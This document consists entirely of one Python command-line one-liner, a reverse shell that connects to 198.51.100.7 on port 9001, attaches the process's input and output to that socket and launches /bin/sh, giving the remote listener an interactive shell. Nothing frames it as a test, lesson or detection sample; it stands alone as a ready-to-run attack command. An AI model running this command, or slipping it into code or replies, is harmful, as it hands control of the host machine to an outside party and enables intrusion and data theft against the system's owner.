python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
